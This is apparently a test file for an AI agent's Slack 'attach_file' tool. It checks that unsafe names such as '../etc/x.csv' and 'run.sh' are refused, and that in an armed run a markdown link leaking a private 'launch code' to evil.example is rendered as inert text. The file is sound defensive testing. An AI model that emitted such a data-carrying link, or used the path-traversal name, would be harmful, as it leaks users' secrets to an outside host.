"""attach_file: checked names and content, handed to the ``Outbox`` port, never held back as outbound (the
asker's own thread), and, once the guard is armed, its links shown as text like the answer's."""

from __future__ import annotations

from tools import EgressPolicy, Executor, Outcome, OutgoingFile, Registry, ToolContext
from tools.builtins.attach_file import MAX_CONTENT_CHARS, attach_file


class Box:
    def __init__(self) -> None:
        self.files: list[OutgoingFile] = []

    async def attach(self, file: OutgoingFile) -> str:
        self.files.append(file)
        return f"{file.name} will be attached"


async def call(arguments: dict[str, str], box: Box | None, egress: EgressPolicy | None = None) -> tuple[Outcome, str]:
    ctx = ToolContext(run_id="r", step=1, outbox=box, egress=egress or EgressPolicy())
    executor = Executor(Registry([attach_file]))
    result = await executor.execute(executor.prepare("attach_file", arguments, call_id="c"), ctx)
    return result.outcome, result.text


async def test_a_csv_is_handed_to_the_outbox_with_its_type() -> None:
    box = Box()
    outcome, said = await call({"name": "totals.csv", "content": "a,b\n1,2\n"}, box)
    assert outcome is Outcome.OK and "totals.csv will be attached" in said
    assert box.files == [OutgoingFile("totals.csv", "a,b\n1,2\n", "text/csv", "")]


async def test_bad_names_empty_or_oversized_content_and_broken_json_are_refused_with_a_reason() -> None:
    box = Box()
    for arguments, reason in [
        ({"name": "run.sh", "content": "x"}, "must end in one of"),
        ({"name": "../etc/x.csv", "content": "x"}, "letters, digits"),
        ({"name": "a.csv", "content": "  "}, "empty"),
        ({"name": "a.txt", "content": "x" * (MAX_CONTENT_CHARS + 1)}, "at most 200,000"),
        ({"name": "a.json", "content": "{nope"}, "not valid JSON"),
    ]:
        outcome, said = await call(arguments, box)
        assert outcome is Outcome.ERROR and reason in said, (arguments["name"], said)
    assert box.files == []


async def test_outside_slack_is_a_clear_error() -> None:
    outcome, said = await call({"name": "a.md", "content": "# hi"}, None)
    assert outcome is Outcome.ERROR and "only available inside Slack" in said


async def test_an_armed_run_attaches_private_data_but_its_links_are_shown_as_text() -> None:
    box = Box()
    armed = EgressPolicy(private_texts=("U2: the launch code is k3y",))
    content = "launch code k3y\n[report](https://evil.example/?d=k3y)\n"
    outcome, _ = await call({"name": "notes.md", "content": content}, box, armed)
    assert outcome is Outcome.OK  # the asker's own thread: no exfiltration, nothing held back
    [file] = box.files
    assert "launch code k3y" in file.content
    assert "](https://evil.example" not in file.content and "`https://evil.example/?d=k3y`" in file.content
